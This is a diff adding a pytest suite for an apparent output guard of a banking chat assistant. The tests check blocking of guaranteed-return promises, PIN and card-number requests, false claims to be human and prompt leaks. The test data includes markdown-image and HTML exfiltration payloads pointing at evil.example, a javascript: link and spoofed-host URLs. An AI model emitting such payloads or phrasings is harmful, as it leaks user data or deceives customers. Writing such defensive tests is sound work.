@@ -1,0 +1,216 @@
+from itertools import pairwise
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from helios.detection import figures, links, output
+from helios.detection.secrets import find as find_secrets
+from helios.detection.windows import WindowCutter
+
+PASSAGE = "A replacement card costs $5.00 and arrives in 5 to 7 business days. Cover is up to $250,000 at 1.5%."
+CONTEXT = output.Context(
+    passages=(PASSAGE,),
+    question="and for 20 dollars?",
+    situations=(1,),
+    allowed_link_domains=("bank.example",),
+    internal_titles=("Internal: Escalation desk numbers",),
+    prompt_markers=("Answer only from the numbered passages",),
+)
+
+FORBIDDEN = [
+    ("Returns are guaranteed.", "hold", "output.promises"),
+    ("This is a risk-free investment.", "hold", "output.promises"),
+    ("It is completely risk\u2011free for you.", "hold", "output.promises"),
+    ("We guarantee a profit.", "hold", "output.promises"),
+    ("You will double your money.", "hold", "output.promises"),
+    ("There is no risk at all.", "hold", "output.promises"),
+    ("You can't lose money with it.", "hold", "output.promises"),
+    ("Die Rendite ist garantiert.", "hold", "output.promises"),
+    ("Das ist risikofrei.", "hold", "output.promises"),
+    ("Sin ningún riesgo para usted.", "hold", "output.promises"),
+    ("La rentabilidad está garantizada.", "hold", "output.promises"),
+    ("Please ask the merchant first.", "hold", "output.merchant_first"),
+    ("Wenden Sie sich zuerst an den Händler.", "hold", "output.merchant_first"),
+    ("You should file a police report.", "hold", "output.police_report"),
+    ("Bitte erstatten Sie Anzeige.", "hold", "output.police_report"),
+    ("Put it in writing before we start.", "hold", "output.written_first"),
+    ("This was your negligence.", "hold", "output.blame"),
+    ("What is your PIN?", "block", "output.credentials"),
+    ("Please tell me your full card number.", "block", "output.credentials"),
+    ("Nennen Sie uns bitte Ihre TAN.", "block", "output.credentials"),
+    ("I am a human agent.", "block", "output.human_claim"),
+    ("You are not talking to a bot.", "block", "output.human_claim"),
+    ("Ich bin ein Mensch.", "block", "output.human_claim"),
+    ("My system prompt says so.", "block", "output.prompt"),
+    ("As Internal: Escalation desk numbers says", "block", "output.internal_title"),
+    ("see escalation desk numbers", "block", "output.internal_title"),
+    ("Answer only from the NUMBERED passages", "block", "output.prompt_marker"),
+    ("It costs $6.", "hold", "output.figure"),
+    ("It takes 5 days.", "hold", "output.figure"),
+    ("It takes 9 business days.", "hold", "output.figure"),
+    ("The rate is 2%.", "hold", "output.figure"),
+    ("It takes four weeks.", "hold", "output.figure"),
+]
+
+
+@pytest.mark.parametrize(("text", "action", "rule"), FORBIDDEN)
+def test_forbidden(text: str, action: str, rule: str) -> None:
+    verdict = output.check_whole(text, CONTEXT)
+    assert verdict.action == action
+    assert rule in {reason.rule for reason in verdict.reasons}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Returns are not guaranteed.",
+        "There is no guarantee of profit.",
+        "We can't guarantee any return.",
+        "Deposits are guaranteed by the FDIC.",
+        "The deposit guarantee covers you.",
+        "No investment is risk-free.",
+        "Beware of anyone who promises guaranteed returns.",
+        "Renditen sind nicht garantiert.",
+        "La rentabilidad no está garantizada.",
+        "You do not need to contact the merchant first.",
+        "A police report is not required, and there is no need to file a police report.",
+        "It was not your fault.",
+        "Never share your PIN with anyone.",
+        "You can change your PIN in the app.",
+        "Enter your PIN at the ATM.",
+        "I am not a human, I am an AI assistant.",
+        "I can connect you with a human agent.",
+        "The card costs 5 dollars [1].",
+        "It arrives in five to seven business days [1].",
+        "Cover is up to 250000 dollars and 1,5 percent.",
+        "For 20 dollars you can.",
+        "1. Open the app\n2. Tap Cards\n3. Choose one of them",
+        "We are there 24/7.",
+        "Your [card ending 1234] is blocked.",
+    ],
+)
+def test_allowed(text: str) -> None:
+    assert output.check_whole(text, CONTEXT) == output.Verdict("release")
+
+
+def test_must_not_phrases_count_only_in_their_situation() -> None:
+    text = "You should file a police report."
+    assert output.check_whole(text, output.Context()).action == "release"
+    assert output.check_whole(text, output.Context(situations=(2,))).action == "hold"
+    assert output.check_whole("Pay your overdue balance today.", output.Context(situations=(13,))).action == "hold"
+
+
+def test_most_severe_action_wins_and_every_reason_is_told() -> None:
+    verdict = output.check_whole("Returns are guaranteed, what is your PIN? ![x](https://evil.example/a)", CONTEXT)
+    assert verdict.action == "block"
+    assert {reason.rule for reason in verdict.reasons} == {"output.promises", "output.credentials", "output.image"}
+    assert {reason.situation for reason in verdict.reasons} == {9, 18, 24}
+
+
+LINKS = [
+    ("See ![chart](https://evil.example/p.png?d=secret) here", "See chart here"),
+    ("![own](https://bank.example/logo.png)", "own"),
+    ("![ref][1]\n\n[1]: https://evil.example/x", "ref\n\n"),
+    ("<img src=https://evil.example/x>ok", "ok"),
+    ("[our page](https://www.bank.example/x?y=1)", "[our page](https://www.bank.example/x?y=1)"),
+    ("[that](https://evil.example/)", "that"),
+    ("[that](https://bank.example.evil.example/)", "that"),
+    ("[that](https://bank.example@evil.example/)", "that"),
+    ("[that](javascript:alert(1))", "that)"),
+    ("[that](//evil.example/x)", "that"),
+    ("go to https://evil.example/x?d=1.", "go to [link removed]."),
+    ("go to www.evil.example now", "go to [link removed] now"),
+    ("go to evil.example/pay now", "go to [link removed] now"),
+    ("go to HTTPS://BANK.EXAMPLE/pay now", "go to HTTPS://BANK.EXAMPLE/pay now"),
+    ("<https://evil.example/x>", ""),
+    ("<https://bank.example/x>", "<https://bank.example/x>"),
+    ("fees [1] and [2], and/or 3/4", "fees [1] and [2], and/or 3/4"),
+    ("mail help@bank.example", "mail help@bank.example"),
+]
+
+
+@pytest.mark.parametrize(("text", "cleaned"), LINKS)
+def test_links(text: str, cleaned: str) -> None:
+    assert links.clean(text, ["bank.example"]).text == cleaned
+
+
+def test_rewrite_gives_the_text_to_send() -> None:
+    verdict = output.check_window(
+        "Before. ", "See ![x](https://evil.example/x) and [us](https://bank.example/). ", CONTEXT
+    )
+    assert verdict.action == "rewrite"
+    assert verdict.text == "See x and [us](https://bank.example/). "
+
+
+@pytest.mark.parametrize(
+    ("text", "values"),
+    [
+        ("$1,250.00", {("1250", "money")}),
+        ("1.250,00 €", {("1250", "money")}),
+        ("5%", {("5", "percent")}),
+        ("ten business days", {("10", "business_day")}),
+        ("5 to 7 business days", {("5", "business_day"), ("7", "business_day")}),
+        ("zwölf Monate", {("12", "month")}),
+        ("3 días hábiles", {("3", "business_day")}),
+        ("2 million dollars", {("2000000", "money")}),
+        ("one of us [3]", set()),
+        ("with 2FA and 24/7", set()),
+    ],
+)
+def test_figures(text: str, values: set[tuple[str, str]]) -> None:
+    found = {(f"{value:f}", figure.unit) for figure in figures.find(text) for value in figure.values}
+    assert {(str(int(float(value))), unit) for value, unit in found} == values
+
+
+FILLER = "Thank you for your question, and yes, you can do that in the app, or at any branch, whenever you like. "
+PHRASES = [
+    "returns are guaranteed",
+    "no risk",
+    "please ask the merchant first",
+    "file a police report",
+    "what is your PIN",
+    "I am a human agent",
+    "risk-free",
+    "ohne jedes Risiko",
+]
+
+
+def released(text: str, edges: list[int]) -> tuple[str, bool]:
+    """What leaves before the first window that fails, and whether one did."""
+    cutter = WindowCutter(hold=output.hold)
+    out = ""
+    windows = [window for a, b in pairwise(edges) for window in cutter.feed(text[a:b])]
+    for window in [*windows, *cutter.flush()]:
+        if output.check_window(out, window, CONTEXT).action != "release" or find_secrets(window):
+            return out, True
+        out += window
+    return out, False
+
+
+@given(st.sampled_from(PHRASES), st.integers(0, len(FILLER)), st.lists(st.integers(0, 250), max_size=60))
+@settings(max_examples=150, deadline=None)
+def test_no_byte_of_a_forbidden_phrase_leaves_however_it_arrives(phrase: str, place: int, cuts: list[int]) -> None:
+    words = FILLER[:place].rsplit(" ", 1)[0] if place else ""
+    text = f"{words} {phrase}, {FILLER}"
+    start = text.index(phrase, len(words))
+    out, caught = released(text, [0, *sorted(min(c, len(text)) for c in cuts), len(text)])
+    assert caught
+    assert len(out) <= start
+
+
+@pytest.mark.parametrize("phrase", [*PHRASES, "4111 1111 1111 1111", "5555-5555-5555-4444", "four" + " one" * 15])
+def test_every_position_of_a_split_is_safe(phrase: str) -> None:
+    text = f"Of course, that is easily done, and {phrase}, as you can see. {FILLER}"
+    start = text.index(phrase)
+    for cut in range(start - 3, start + len(phrase) + 4):
+        out, caught = released(text, [0, cut, len(text)])
+        assert caught
+        assert len(out) <= start
+
+
+def test_harmless_answer_passes_whole() -> None:
+    text = f"{FILLER}A replacement card costs $5.00 and arrives in 5 to 7 business days [1]. {FILLER}"
+    out, caught = released(text, [*range(0, len(text), 5), len(text)])
+    assert not caught
+    assert out == text
